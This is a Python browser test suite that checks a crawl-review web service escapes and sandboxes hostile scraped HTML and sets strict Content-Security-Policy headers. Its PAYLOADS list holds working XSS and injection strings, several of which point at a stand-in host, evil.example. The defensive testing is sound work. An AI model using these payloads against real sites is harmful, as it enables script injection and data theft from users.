"""The pages show what strangers wrote, and none of it runs, loads, submits or leads anywhere: tried in a real browser."""

import base64
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from html import escape
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import zstandard
from playwright.sync_api import Browser

from cleaners import clean
from cleaners.page import Drop, Mark
from tests.service.browser import Trap, Watched, browser, needs_browser, trap
from tests.service.web_helpers import Site, serving
from worker.quality.alarms import Finding, record
from worker.store.form import document
from worker.store.ids import now_ms
from worker.store.nouns import Job, Outcome, ReasonCount

__all__ = ["browser", "trap"]  # fixtures
pytestmark = needs_browser

OUT = "https://evil.example/x"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    '"><script src=https://evil.example/x></script>',
    "<img src=https://evil.example/x onerror=window.pwned=1>",
    "'\"><svg/onload=window.pwned=1>",
    '" autofocus onfocus=window.pwned=1 x="',
    "' onpointerover=window.pwned=1 '",
    "</title><script>window.pwned=1</script>",
    "</textarea></style></script><script>window.pwned=1</script>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<iframe src=https://evil.example/x></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/x'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x><link rel=preconnect href=https://evil.example>",
    "<form action=https://evil.example/x><button autofocus>x</button></form>",
    "<style>@import 'https://evil.example/x';body{background:url(https://evil.example/x)}</style>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video autoplay onloadstart=window.pwned=1 src=https://evil.example/x></video>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "\u202egnp.exe\u2066\u0085\u2028window.pwned=1",
    "--><!--><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
)


def body(payload: str) -> str:
    quoted = escape(payload, quote=True)
    state = json.dumps({"@type": "Article", "headline": payload, "author": payload, "articleBody": payload * 3})
    return (
        f'<!doctype html><html><head><title>{quoted}</title><meta name=author content="{quoted}">'
        f'<meta property=og:site_name content="{quoted}"><meta name=description content="{quoted}">'
        f"<script type=application/ld+json>{state}</script></head>"
        f"<body onload=window.pwned=1><h1>{quoted}</h1><p class=byline>By {quoted}</p>"
        f'<p title="{quoted}" id="{quoted}" lang="{quoted}" style="{quoted}" data-x="{quoted}" aria-label="{quoted}">'
        f"The ferry stayed at its pier. {quoted}</p>{payload}"
        f'<p><a href="{quoted}" name="{quoted}">{quoted}</a><img src="{quoted}" alt="{quoted}" srcset="{quoted}"></p>'
        f'<div class="cookie-banner {quoted}"><p>We use cookies. {quoted}</p></div></body></html>'
    )


def worst(job: Job, payload: str) -> Outcome:
    """What a cleaner might store that lets everything through: the payload in every field, reason and rule."""
    found = clean(job.body, url=job.url)
    drop = Drop("text", 0, len(found.text), found.text, payload, payload, 0.5, payload)
    cut = drop._replace(field="title", start=0, end=1, text=payload)
    account = json.dumps(
        {"drops": [drop, cut], "flags": [Mark(0, 4, "flag", payload, payload, 0.5, "text", payload)], "notes": [payload]}
    )
    names = ("title", "author", "date", "site_name", "description", "language", "page_kind", "verdict", "encoding")
    fields = dict.fromkeys((*names, "cleaner_version", "profile"), payload)
    reasons = (ReasonCount(payload, payload, 2, 9),)
    squeezed = zstandard.ZstdCompressor().compress(account.encode("utf-8", "surrogatepass"))
    stored = replace(document(found, "x"), **fields, text="", reasons=reasons, account=squeezed)
    return Outcome(job_id=job.id, attempt=job.attempt, document=stored)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with serving(tmp_path_factory.mktemp("web")) as site:
        rows = []
        for n, payload in enumerate(PAYLOADS):
            rows.append(
                {
                    "url": f"https://h{n}.example/?q={quote(payload)}",
                    "id": "".join(c for c in payload if c.isprintable()) + str(n),
                    "html": body(payload),
                    "meta": {payload[:60]: payload, "list": [payload]},
                    "content_type": "text/html; " + "".join(c for c in payload if c.isprintable())[:200],
                    "encoding": payload[:30] if payload.isascii() else None,
                }
            )
            rows.append({"url": f"https://t{n}.example/", "text": f"{payload}\n\nThe ferry stayed at its pier."})
            rows.append(
                {"url": f"https://b{n}.example/", "html_base64": base64.b64encode(body(payload).encode("utf-16")).decode()}
            )
        for n, host in enumerate(("<script>window.pwned=1<", '"onx=1', "'><img", "a%22b", "{{7*7}}")):
            rows.append({"url": f"https://{host}.example{n}/", "text": "The ferry stayed."})
        lines = [
            json.loads(line) for line in site.send(b"\n".join(json.dumps(row).encode() for row in rows)).text.splitlines()
        ]
        assert sum("page_id" in line for line in lines) >= 3 * len(PAYLOADS), "most of it is taken, as from any site"
        for n, payload in enumerate(PAYLOADS):
            put = site.put(url=f"https://w{n}.example/", id=f"w{n} {payload if payload.isprintable() else ''}")
            site.store.finish([worst(job, payload) for job in site.store.claim([put["revision_id"]], "test")])
            put = site.put(url=f"https://e{n}.example/")
            (job,) = site.store.claim([put["revision_id"]], "test")
            site.store.finish([Outcome(job_id=job.id, attempt=job.attempt, rejected=(payload, payload))])
        site.work()
        site.store.change_rule("navigation", enabled=False, host=PAYLOADS[0], by=PAYLOADS[2], note=PAYLOADS[3])
        wrong = [
            Finding(kind="kept_share", subject=payload, wrong=True, at=now_ms(), evidence={"now": 0.1, payload: payload})
            for payload in PAYLOADS
        ]
        site.store.database.write(lambda connection: record(connection, wrong))
        site.store.rollup()
        yield site


@pytest.fixture
def seen(site: Site, browser: Browser, trap: Trap) -> Iterator[Watched]:
    context = browser.new_context()
    watched = Watched(context, site.url)
    yield watched
    watched.page.wait_for_timeout(200)
    context.close()
    assert trap.caught == 0, "something was sent to another host"


def harmless(watched: Watched) -> None:
    page = watched.page
    for frame in page.frames:
        if frame.parent_frame is None:
            assert frame.evaluate("window.pwned") is None
    # our pages are escaped, so that the policy has nothing to refuse in them
    assert [text for text in watched.said if "ontent Security Policy" in text or "dialog" in text] == []
    assert page.url.startswith(watched.base)
    assert "49" not in page.locator("h1").first.inner_text()


def rows_of(site: Site, kind: str) -> list[dict[str, Any]]:
    found = site.http.get("/v1/pages", params={"limit": 1000}).json()["rows"]
    return [row for row in found if row["url"].startswith(f"https://{kind}")]


def test_every_field_brings_its_payload(site: Site) -> None:
    """Where nothing hostile arrives, nothing is tested."""
    for row in rows_of(site, "w"):
        found = site.http.get(f"/v1/pages/{row['page_id']}").json()
        payload = PAYLOADS[int(found["host"].removeprefix("w").partition(".")[0])]
        names = ("title", "author", "date", "site_name", "description", "language", "verdict", "profile", "encoding")
        assert {found["document"][name] for name in names} == {payload}
        assert {drop["rule"] for drop in found["document"]["drops"]} == {payload}
    for row in rows_of(site, "h"):
        found = site.http.get(f"/v1/pages/{row['page_id']}").json()
        payload = PAYLOADS[int(found["host"].removeprefix("h").partition(".")[0])]
        plain = " ".join(payload.split())
        for name in ("title", "site_name", "description"):
            assert plain in " ".join(found["document"][name].split()), name
        texts = (found["document"]["text"], *(drop["text"] for drop in found["document"]["drops"]))
        assert any(plain in " ".join(text.split()) for text in texts)
        assert quote(payload) in found["url"]
        assert payload in found["revisions"][0]["meta"].values()
        assert "".join(c for c in payload if c.isprintable()) in found["key"]


@pytest.mark.parametrize(("kind", "every"), [("h", 2), ("w", 2), ("e", 8), ("t", 6), ("b", 6)])
def test_no_page_view_and_no_original_runs_or_loads_anything(site: Site, seen: Watched, kind: str, every: int) -> None:
    rows = rows_of(site, kind)[::every]
    assert len(rows) >= len(PAYLOADS) // every
    pages = kind != "e"
    for row in rows:
        page = seen.open(f"/pages/{row['page_id']}?revision={row['id']}")
        for drop in page.locator("#source [data-note]").all()[:2]:
            drop.focus()
        assert page.locator("main a[href^='javascript:'], main script, main object, main form[action^=http]").count() == 0
        if not pages:
            harmless(seen)
            continue
        page.click("#original summary")
        frame = page.frame_locator("#original iframe")
        frame.locator("body").wait_for(state="attached")
        assert frame.locator("script, iframe, object, embed, base, link, meta[http-equiv]").count() == 0
        assert frame.locator("[src], [href], [srcset], [data], [action], [onerror], [onload], body style").count() == 0
        harmless(seen)


def test_no_original_runs_in_a_window_of_its_own(site: Site, seen: Watched) -> None:
    for row in rows_of(site, "h")[::2]:
        answer = seen.page.goto(f"{site.url}/original/{row['id']}")
        assert answer is not None and answer.status == 200
        assert seen.page.evaluate("[window.pwned, window.origin]") == [None, "null"]


def test_no_listing_runs_anything(site: Site, seen: Watched) -> None:
    listings = ("/", "/hosts", "/hosts?order=name&start=50", "/pages", "/pages?state=rejected", "/alarms", "/audit")
    for path in (*listings, f"/pages?host={quote(PAYLOADS[3])}", f"/alarms?host={quote(PAYLOADS[3])}"):
        page = seen.open(path)
        if path == "/":
            page.wait_for_selector("html[data-drawn]")
        harmless(seen)
    for payload in PAYLOADS:
        seen.open(f"/hosts?search={quote(payload)}")
        harmless(seen)
    for payload in PAYLOADS[::5]:
        seen.open(f"/signin?next={quote(payload)}")
        harmless(seen)
        seen.open(f"/hosts/{quote(payload, safe='')}")
        harmless(seen)
        seen.open(f"/audit?by={quote(payload)}&action={quote(payload[:90])}")
        harmless(seen)
        seen.open(f"/hosts/w{PAYLOADS.index(payload)}.example")
        harmless(seen)


def test_nothing_hostile_breaks_the_text_of_metrics(site: Site) -> None:
    text = site.http.get("/metrics").text
    assert "pwned" in text, "as the name of a reason"
    line = re.compile(r'\w+(\{\w+="(\\.|[^"\\])*"(,\w+="(\\.|[^"\\])*")*\})? [0-9.e+-]+|# (HELP|TYPE) .*')
    assert [one for one in text.split("\n") if one and not line.fullmatch(one)] == []


def test_the_trap_catches(browser: Browser) -> None:
    """Without it, the others could not fail."""
    trap = Trap()
    context = browser.new_context()
    page = context.new_page()
    page.set_content(f"<img src=http://127.0.0.1:{trap.port}/x>")
    page.wait_for_timeout(300)
    context.close()
    trap.close()
    assert trap.caught


@pytest.mark.parametrize("path", ["/", "/hosts", "/pages", "/signin", "/hosts/none.example", "/pages/zz"])
def test_the_policy_allows_no_script_but_ours(site: Site, path: str) -> None:
    policy = httpx.get(site.url + path, headers={"Accept": "text/html"}).headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src 'self'" in policy and "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy and "base-uri 'none'" in policy


def test_the_originals_policy_allows_nothing(site: Site) -> None:
    revision = site.http.get("/v1/pages", params={"limit": 1}).json()["rows"][0]["id"]
    policy = httpx.get(f"{site.url}/original/{revision}").headers["Content-Security-Policy"]
    assert policy.startswith("sandbox; default-src 'none'") and "allow-" not in policy and "script-src" not in policy
